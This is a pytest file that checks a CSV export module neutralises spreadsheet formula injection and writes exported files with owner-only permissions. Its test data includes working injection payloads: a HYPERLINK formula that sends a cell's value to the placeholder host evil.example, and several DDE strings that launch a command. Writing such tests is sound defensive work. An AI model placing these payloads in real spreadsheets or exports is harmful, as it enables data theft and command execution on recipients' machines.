"""OWASP CSV injection: formula-like cells are neutralised when written for people, numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from pillars.exports.cells import neutralise
from pillars.exports.csv_file import write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "--1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+12", "-0.5", "-.5", "1e5", "-2E-3", "Harris", "", "a=b", " =1", "'=1"])
def test_other_text_is_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-3, 2.5, None, True])
def test_non_text_is_unchanged(value):
    assert neutralise(value) is value


def test_write_csv_neutralises_every_cell_and_is_owner_only(tmp_path):
    root = tmp_path / "exports"
    path = root / "2026-01-01" / "rejected.csv"
    count = write_csv(path, ["county", "n"], [["=cmd|' /C calc'!A0", -3], ["Harris", "-3"], ["@x", None]], root=root)
    assert count == 3
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["county", "n"], ["'=cmd|' /C calc'!A0", "-3"], ["Harris", "-3"], ["'@x", ""]]
    assert path.stat().st_mode & 0o777 == 0o600
    assert (path.parent.stat().st_mode & 0o777, root.stat().st_mode & 0o777) == (0o700, 0o700)
    assert not list(path.parent.glob("*.part"))
